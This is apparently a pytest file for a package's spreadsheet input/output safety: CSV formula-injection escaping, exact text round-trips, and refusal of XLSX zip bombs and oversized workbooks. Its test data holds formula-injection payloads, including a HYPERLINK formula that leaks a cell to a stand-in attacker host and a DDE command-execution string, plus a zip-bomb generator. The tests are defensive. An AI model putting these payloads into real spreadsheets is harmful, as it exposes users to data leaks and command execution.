"""Spreadsheet safety (issue 15): formula injection escaped in CSV / XLSX outputs only, and XLSX
zip bombs refused before parsing, rows bounded, workbooks streamed."""

from __future__ import annotations

import json
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from cxnlp.io import SpreadsheetTooLarge, escape_formula, iter_table, read_table, write_table
from cxnlp.io.batch import classify_file

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
PLAIN = ["Great app", "-5", "+98", "خیلی خوب بود"]


def test_escape_formula_follows_owasp():
    for text in HOSTILE:
        assert escape_formula(text) == "'" + text
    for text in PLAIN:
        assert escape_formula(text) == text
    assert escape_formula(3) == 3 and escape_formula(None) is None


@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".jsonl", ".parquet"])
def test_classify_keeps_texts_exactly_and_escapes_only_on_request(
    tiny_fast_model, tmp_path, suffix
):
    # Issue 31 narrowed issue 15: a classified file is data joined back by id, so its texts are
    # exact; XLSX cells are strings (never formulas); a CSV is escaped with excel_safe only.
    texts = HOSTILE + PLAIN
    source = tmp_path / "in.jsonl"
    pd.DataFrame({"id": range(len(texts)), "text": texts}).to_json(
        source, orient="records", lines=True, force_ascii=False
    )
    out = tmp_path / f"out{suffix}"
    classify_file(tiny_fast_model, source, out, progress=False)
    if suffix == ".xlsx":
        sheet = openpyxl.load_workbook(out).worksheets[0]
        cells = [row[1] for row in sheet.iter_rows(min_row=2)]
        assert all(c.data_type == "s" for c in cells)  # no formula cell
        got = [c.value for c in cells]
        # openpyxl gives a CR inside a cell back as LF (XML line-end normalisation)
        assert got == [t.replace("\r", "\n") for t in texts]
    elif suffix == ".csv":
        got = pd.read_csv(out, dtype=str, keep_default_na=False)["text"].tolist()
        assert got == texts
        safe = tmp_path / "safe.csv"
        classify_file(tiny_fast_model, source, safe, progress=False, excel_safe=True)
        got = pd.read_csv(safe, dtype=str, keep_default_na=False)["text"].tolist()
        assert got == ["'" + t for t in HOSTILE] + PLAIN
    else:
        assert read_table(out)["text"].tolist() == texts  # the original text, untouched


def test_write_table_escapes_csv_on_request_only(tmp_path):
    frame = pd.DataFrame({"text": ["=1+1", "ok"], "n": [1, -2]})
    write_table(frame, tmp_path / "o.csv")
    back = pd.read_csv(tmp_path / "o.csv")
    assert back["text"].tolist() == ["=1+1", "ok"] and back["n"].tolist() == [1, -2]
    write_table(frame, tmp_path / "safe.csv", excel_safe=True)
    back = pd.read_csv(tmp_path / "safe.csv")
    assert back["text"].tolist() == ["'=1+1", "ok"] and back["n"].tolist() == [1, -2]


def _bomb(path: Path, inflated_mb: int = 40) -> None:
    row = '<row><c t="inlineStr"><is><t>aaaaaaaaaa</t></is></c></row>'
    body = row * (inflated_mb * 2**20 // len(row))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr(
            "xl/worksheets/sheet1.xml", f"<worksheet><sheetData>{body}</sheetData></worksheet>"
        )


def test_xlsx_zip_bomb_is_refused_before_parsing(tmp_path):
    path = tmp_path / "bomb.xlsx"
    _bomb(path)
    assert path.stat().st_size < 1_000_000
    with pytest.raises(SpreadsheetTooLarge, match="zip bomb"):
        next(iter_table(path))


def test_xlsx_over_the_byte_limit_is_refused(tmp_path, monkeypatch):
    path = tmp_path / "big.xlsx"
    pd.DataFrame({"text": [f"review {i}" for i in range(2000)]}).to_excel(path, index=False)
    monkeypatch.setenv("CXNLP_XLSX_MAX_BYTES", "10000")
    with pytest.raises(SpreadsheetTooLarge, match="CXNLP_XLSX_MAX_BYTES"):
        next(iter_table(path))


def test_xlsx_rows_are_bounded_and_streamed(tmp_path, monkeypatch):
    path = tmp_path / "rows.xlsx"
    frame = pd.DataFrame({"id": range(10), "text": [f"review {i}" for i in range(10)]})
    frame.to_excel(path, index=False)
    chunks = list(iter_table(path, chunk_rows=4))
    assert [len(c) for c in chunks] == [4, 4, 2]
    assert pd.concat(chunks)["text"].tolist() == frame["text"].tolist()
    monkeypatch.setenv("CXNLP_XLSX_MAX_ROWS", "5")
    with pytest.raises(SpreadsheetTooLarge, match="more than 5 rows"):
        list(iter_table(path, chunk_rows=4))


def test_job_with_a_zip_bomb_fails_with_the_reason(tiny_model_dir, tmp_path):
    from fastapi.testclient import TestClient

    from service import Settings, create_app

    bomb = tmp_path / "bomb.xlsx"
    _bomb(bomb)
    settings = Settings(model=str(tiny_model_dir), auth=False, jobs_dir=tmp_path / "jobs")
    with TestClient(create_app(settings)) as c:
        with open(bomb, "rb") as f:
            job = c.post("/v1/jobs", files={"file": ("bomb.xlsx", f)}).json()
        import time

        for _ in range(500):
            info = c.get(f"/v1/jobs/{job['id']}").json()
            if info["status"] in ("failed", "succeeded"):
                break
            time.sleep(0.02)
    assert info["status"] == "failed" and "zip bomb" in info["error"]
    assert str(tmp_path) not in json.dumps(info)
